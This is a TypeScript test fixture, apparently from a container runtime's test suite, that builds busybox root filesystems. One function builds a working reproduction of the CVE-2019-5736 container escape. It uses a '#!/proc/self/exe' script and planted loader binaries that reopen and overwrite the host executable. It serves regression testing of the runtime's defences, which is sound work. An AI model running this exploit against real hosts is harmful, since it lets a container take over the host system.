import { copyFileSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { AT_FDCWD, LAST_DESCRIPTOR, O_PATH } from '../../src/runtime/launcher/constants.ts';
import { assembleElf } from '../../src/runtime/launcher/elf.ts';
import { type Call, Program } from '../../src/runtime/launcher/program.ts';
import { executeProgram } from '../../src/runtime/steps/process.ts';

/** Static, so that a root of it alone runs. */
export const BUSYBOX = '/bin/busybox';
/** What a file begins with that was overwritten from inside. */
export const OVERWRITTEN = 'overwritten-from-inside';
/** A program that a container is asked to run, and that means whoever runs it. */
export const EVIL = '/bin/evil';

const APPLETS = 'cat cp echo env false grep head id ln ls mkdir mv pwd readlink rm sh sleep test touch true wc'.split(
  ' ',
);
const LOADERS = ['lib64/ld-linux-x86-64.so.2', 'lib/ld-linux-aarch64.so.1'];

/** A root filesystem of busybox, for `x-rootfs`. */
export function writeRootfs(directory: string): void {
  for (const name of ['bin', 'etc', 'tmp', 'lib', 'lib64']) mkdirSync(join(directory, name), { recursive: true });
  copyFileSync(BUSYBOX, join(directory, 'bin/busybox'));
  for (const applet of APPLETS) symlinkSync('busybox', join(directory, 'bin', applet));
}

/**
 * The same with the attack of CVE-2019-5736: `EVIL` is a script whose interpreter is the program that executes it, and for
 * a program of the host the kernel takes the loader from here, which opens that program and overwrites it once it has ended.
 */
export function writeEvilRootfs(directory: string): void {
  writeRootfs(directory);
  writeFileSync(join(directory, EVIL), '#!/proc/self/exe\n', { mode: 0o755 });
  const program = new Program([0, 1, 2]);
  program.call('close_range', [3, LAST_DESCRIPTOR, 0], 'close everything else');
  const exe = program.open('openat', [AT_FDCWD, '/proc/self/exe', O_PATH, 0], 'hold who was executed');
  const script = `(sleep 0.3; echo ${OVERWRITTEN} >/proc/self/fd/${exe}) & exit 0`;
  executeProgram(program, { argv: ['/bin/sh', '-c', script], env: { PATH: '/bin' } });
  for (const loader of LOADERS) writeProgram(join(directory, loader), program.calls);
}

/** A static program of these system calls, mode 0755. */
export function writeProgram(path: string, calls: readonly Call[]): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, assembleElf(process.arch === 'x64' ? 'x86_64' : 'aarch64', calls, 2), { mode: 0o755 });
}
